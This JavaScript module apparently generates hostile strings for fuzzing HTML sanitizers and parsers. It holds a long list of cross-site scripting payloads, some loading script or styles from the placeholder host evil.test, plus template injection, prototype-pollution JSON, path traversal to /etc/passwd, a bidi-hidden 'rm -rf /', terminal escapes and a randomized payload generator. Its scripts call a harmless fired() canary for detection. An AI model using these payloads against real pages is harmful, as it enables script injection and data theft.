// Texts that want to become markup, script, style or a request, and texts that want to confuse.
// Each script in them calls fired(): whoever counts these calls knows whether one ran.
import { numbers } from "./trace.mjs";

const FIRE = "fired()";

// What runs in some place of a careless page: in text, in an attribute, in a script, in an address.
const LIST = [
  `<script>${FIRE}</script>`,
  `</script><script>${FIRE}</script>`,
  `<script src="http://evil.test/x.js"></script>`,
  `<script type="module">${FIRE}</script>`,
  `<img src=x onerror=${FIRE}>`,
  `<img src=x onerror="${FIRE}"//`,
  `<image src=x onerror=${FIRE}>`,
  `<svg onload=${FIRE}>`,
  `<svg><script>${FIRE}</script></svg>`,
  `<svg><animate onbegin=${FIRE} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${FIRE}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${FIRE}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${FIRE}></style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${FIRE}&gt;">`,
  `<math href="javascript:${FIRE}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${FIRE}">x</maction></math>`,
  `<iframe src="javascript:${FIRE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${FIRE}</script>"></iframe>`,
  `<object data="javascript:${FIRE}"></object>`,
  `<embed src="javascript:${FIRE}">`,
  `<body onload=${FIRE}>`,
  `<details open ontoggle=${FIRE}>x</details>`,
  `<video><source onerror=${FIRE}></video>`,
  `<audio src=x onerror=${FIRE}>`,
  `<input autofocus onfocus=${FIRE}>`,
  `<select autofocus onfocus=${FIRE}>`,
  `<textarea autofocus onfocus=${FIRE}>`,
  `<marquee onstart=${FIRE}>x</marquee>`,
  `<form action="javascript:${FIRE}"><button>x</button></form>`,
  `<button formaction="javascript:${FIRE}" form=x>x</button>`,
  `<isindex type=image src=1 onerror=${FIRE}>`,
  `<a href="javascript:${FIRE}">x</a>`,
  `<a href="java\tscript:${FIRE}">x</a>`,
  `<a href="&#106;avascript:${FIRE}">x</a>`,
  `<a href="data:text/html,<script>${FIRE}</script>">x</a>`,
  `<a href=x onmouseover=${FIRE} onfocus=${FIRE} autofocus tabindex=0>x</a>`,
  `<base href="http://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${FIRE}">`,
  `<link rel=stylesheet href="http://evil.test/x.css">`,
  `<link rel=prefetch href="http://evil.test/">`,
  `<style>@import url("http://evil.test/x.css");</style>`,
  `<style>*{display:none!important}</style>`,
  `<div style="background:url(http://evil.test/x)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">x</div>`,
  `<p style="animation-name:x" onanimationstart=${FIRE}>x</p>`,
  `<template><script>${FIRE}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${FIRE}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">`,
  `<title></title><img src=x onerror=${FIRE}>`,
  `<textarea></textarea><img src=x onerror=${FIRE}>`,
  `<xmp></xmp><img src=x onerror=${FIRE}>`,
  `<plaintext>`,
  `<!--`,
  `--><img src=x onerror=${FIRE}>`,
  `--!><script>${FIRE}</script>`,
  `<![CDATA[<script>${FIRE}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${FIRE}</script>`,
  `<x onclick=${FIRE} onpointerover=${FIRE} tabindex=1 id=x>x</x>#x`,
  `<form><input name=attributes><input name=getElementById></form>`,
  `<img name=body><img name=getElementById>`,
  `<a id=strandbus-data></a><a id=strandbus-data name=textContent>`,
  `&lt;script&gt;${FIRE}&lt;/script&gt;`,
  `&#60;script&#62;${FIRE}&#60;/script&#62;`,
  `\\u003cscript\\u003e${FIRE}\\u003c/script\\u003e`,
  `%3Cscript%3E${FIRE}%3C/script%3E`,
  `＜script＞${FIRE}＜/script＞`,
  `+ADw-script+AD4-${FIRE}+ADw-/script+AD4-`,
  `"><script>${FIRE}</script>`,
  `'><script>${FIRE}</script>`,
  `" onmouseover="${FIRE}" x="`,
  `' onfocus='${FIRE}' autofocus='`,
  `"; ${FIRE}; //`,
  `'; ${FIRE}; //`,
  "`; " + FIRE + "; `",
  "${" + FIRE + "}",
  `{{constructor.constructor('${FIRE}')()}}`,
  `#{${FIRE}}`,
  `<%= ${FIRE} %>`,
  `</textarea></title></style></script></svg></noscript><img src=x onerror=${FIRE}>`,
  `javascript:${FIRE}`,
  `JaVaScRiPt:${FIRE}`,
  ` \tjavascript:${FIRE}`,
  `vbscript:${FIRE}`,
  `data:text/html,<script>${FIRE}</script>`,
  `blob:http://evil.test/x`,
  `http://evil.test/`,
  `//evil.test/x`,
  `file:///etc/passwd`,
  `[x](javascript:${FIRE})`,
  `![x](http://evil.test/x.png)`,
  `<javascript:${FIRE}>`,
  "```html\n<script>" + FIRE + "</script>\n```",
  "```\n<img src=x onerror=" + FIRE + ">",
  `url(http://evil.test/x)`,
  `;}*{display:none}`,
  `expression(${FIRE})`,
  `red;background:url(http://evil.test/x)`,
  // what deceives the eye
  `safe\u202e txt.exe`,
  `\u2066rm -rf /\u2069`,
  `a\u200bb\u200cc\u200dd\u2060e\ufefff`,
  `\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u2067\u2068`,
  `dev\u00adnull`,
  `раураl.com`,
  `Z̸̡̢̛͓͇͙̦̯͓͎̬̥̟̗̣͙̼͆̒̿͊͐̀̄̿̚͝a̷l̴g̵o̶`,
  `\u{e0001}\u{e0073}\u{e007f}`,
  `\u2028alert\u2029`,
  `مرحبا بالعالم`,
  `👩‍👩‍👧‍👦🏳️‍🌈`,
  // what terminals and parsers trip over
  `\u0000`,
  `a\u0000<script>${FIRE}</script>`,
  `\u001b[31mred\u001b[0m\u001b]8;;http://evil.test/\u0007link\u001b]8;;\u0007`,
  `\u001b[2J\u001b[H\u001b]0;title\u0007`,
  `\u009b31mred`,
  `\b\b\b\b\r\nx\rover`,
  `\u007f\u0080\u009f\ufffe\uffff`,
  `\ud7ff\ue000\u{10ffff}`,
  // names that an object has already
  `__proto__`, `constructor`, `prototype`, `hasOwnProperty`, `toString`, `valueOf`, `then`, `length`,
  `__defineGetter__`, `undefined`, `null`, `NaN`, `true`, `-1`, `0`, `1e999`, `[object Object]`,
  ``, ` `, `\n`, `\n\n\n\n\n`, `.`, `..`, `../../etc/passwd`, `%00`, `%`, `%s%s%n`, `$&`, `$1`, `\\`, `\\u`,
  `{"__proto__":{"polluted":1}}`, `[[[[[[[[[[`, `{"a":`, `"`, `'`, "`", `<`, `>`, `&`, `&amp;`, `</`,
  // sizes
  "A".repeat(20_000),
  "wide ".repeat(4_000),
  "line\n".repeat(4_000),
  "<b>".repeat(3_000),
  `${"(".repeat(5_000)}x`,
  `\u202e${"x\u202d".repeat(1_000)}`,
  "a\u0301".repeat(2_000),
  `x${"\u0300".repeat(1_000)}`,
];

const TAGS = ["img", "svg", "script", "iframe", "object", "video", "math", "a", "input", "details", "style",
  "link", "meta", "base", "form", "body", "x-y", "template", "table", "select", "audio", "button"];
const HANDLERS = ["onerror", "onload", "onfocus", "onclick", "ontoggle", "onpointerenter", "onanimationstart",
  "onbeforematch", "onscrollend", "onmouseover", "oncontentvisibilityautostatechange"];
const TARGETS = ["src", "href", "xlink:href", "srcdoc", "data", "action", "formaction", "poster", "style", "background"];
const VALUES = [FIRE, `javascript:${FIRE}`, `data:text/html,<script>${FIRE}</script>`, "http://evil.test/x", "x",
  `&#x6a;avascript:${FIRE}`, `url(http://evil.test/)`];
const BEFORE = ["", `">`, `'>`, "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "`}", "\u0000", "&lt;",
  "<svg>", "<math><mtext>", "<table><tr>", "<select><option>", "<noscript>", "\u202e", "text "];
const SPACES = [" ", "/", "\t", "\n", "\f", "//", " \u0000 "];

// These run at once in a careless page, without a reader.
const LIVE = [["img", "src=x", "onerror"], ["svg", "id=x", "onload"], ["audio", "src=x", "onerror"], ["input", "autofocus", "onfocus"],
  ["details", "open", "ontoggle"], ["video", "src=x", "onerror"], ["iframe", "src=about:blank", "onload"], ["object", "data=x", "onerror"],
  ["body", "id=x", "onload"], ["script", "src=x", "onerror"]];

// One that runs, behind something that ends what may be around it, written in an unusual way.
function live(one) {
  const [tag, other, handler] = one(LIVE);
  const quote = one([`"`, `'`, ""]);
  const space = one([" ", "/", "\t", "\n", "\f", "//"]);
  const written = (text) => one([text, text.toUpperCase(), text[0] + text.slice(1).toUpperCase()]);
  return `${one(BEFORE)}<${written(tag)}${space}${other} ${written(handler)}=${quote}${one([FIRE, `${FIRE}//`, `&#102;ired()`, `window.${FIRE}`])}${quote} >${one(["", "x", `</${tag}>`])}`;
}

function invented(below) {
  const one = (list) => list[below(list.length)];
  if (below(2) === 0) return live(one);
  const quote = one([`"`, `'`, ""]);
  const tag = one([one(TAGS), one(TAGS).toUpperCase(), `\u0000${one(TAGS)}`, `/${one(TAGS)}`]);
  const attributes = Array.from({ length: 1 + below(3) }, () => {
    const name = one([one(HANDLERS), one(TARGETS), one(HANDLERS).toUpperCase()]);
    return `${one(SPACES)}${name}=${quote}${one(VALUES)}${quote}`;
  });
  return `${one(BEFORE)}<${tag}${attributes.join("")}${one([">", "/>", "", " ", "<"])}${one(["", FIRE, "x</x>", "<!--"])}`;
}

// As many as are wanted: the list above, then what the seed makes of its parts.
export function hostileTexts(count, seed) {
  const below = numbers(seed);
  const texts = [...LIST];
  const known = new Set(texts);
  while (texts.length < count) {
    const text = invented(below);
    if (known.has(text)) continue;
    known.add(text);
    texts.push(text);
  }
  return texts.slice(0, count);
}

// A JSON value with every other text as a key and the next one as its value, and with keys that an
// object has already.
export function hostileJson(texts) {
  const pairs = texts.flatMap((text, index) => (index % 2 === 0 ? [[text, texts.at(index + 1) ?? text]] : []));
  const inner = JSON.stringify({ ...Object.fromEntries(pairs), list: [texts[0], [texts[0], null, true, 1e300]] });
  return JSON.parse(`{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},${inner.slice(1)}`);
}
